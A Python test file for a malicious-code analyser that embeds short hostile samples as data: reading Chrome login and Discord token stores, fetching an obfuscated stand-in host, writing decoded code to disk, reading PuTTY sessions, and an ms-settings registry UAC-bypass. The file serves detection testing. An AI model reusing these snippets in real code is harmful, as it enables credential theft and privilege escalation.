"""Texts of which only a part is known still say where they lead."""

# ruff: noqa: E501 - samples stand as somebody would write them
from __future__ import annotations

import textwrap

from tests.analysis.machines import Seen, run


def seen(text: str) -> Seen:
    return run(textwrap.dedent(text))


def test_a_place_that_is_put_in_later_leaves_the_path_known() -> None:
    found = seen(
        r"""
        import os
        PLACES = ["_Local/Google/Chrome/User Data/Default/Login Data", "_Roaming/discord/Local Storage/leveldb"]
        for place in PLACES:
            path = place.replace("_Local", os.getenv("LOCALAPPDATA")).replace("_Roaming", os.getenv("APPDATA"))
            open(path, "rb").read()
        """
    )
    assert {"secrets.browser", "secrets.app"} <= found.ids()


def test_a_replacement_that_says_nothing_is_a_hole() -> None:
    found = seen(
        "import sys\nopen('/tmp/_X_/a.txt'.replace('_X_', sys.argv[1]), 'w').write('x' * 30)\n"
    )
    assert not found.flows()


def test_a_host_that_was_decoded_stays_hidden_inside_a_longer_address() -> None:
    found = seen(
        """
        import codecs, urllib.request
        urllib.request.urlopen("https://" + codecs.decode("rivy.vainyvq", "rot13") + "/a")
        """
    )
    assert "encoded=yes" in found.one("net.fetch").args
    assert found.one("net.fetch").host == "evil.invalid"


def test_a_flow_into_a_file_names_the_file() -> None:
    found = seen(
        "import base64, os\nopen(os.getcwd() + '/late.py', 'wb').write(base64.b64decode('cHJpbnQoMSk='))\n"
    )
    assert found.one("data.decode->file.write").value.endswith("/late.py")


def test_the_registry_holds_sessions_and_decides_who_asks() -> None:
    found = seen(
        r"""
        import winreg
        key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\SimonTatham\PuTTY\Sessions")
        winreg.EnumValue(key, 0)
        other = winreg.CreateKey(winreg.HKEY_CURRENT_USER, r"Software\Classes\ms-settings\shell\open\command")
        winreg.SetValueEx(other, None, 0, winreg.REG_SZ, "calc.exe")
        own = winreg.CreateKey(winreg.HKEY_CURRENT_USER, r"Software\Demo")
        winreg.SetValueEx(own, "size", 0, winreg.REG_SZ, "7")
        """
    )
    assert found.one("secrets.app").value.endswith("Sessions")
    assert found.one("defense.elevate").line == 6
    assert found.one("file.write").line == 8
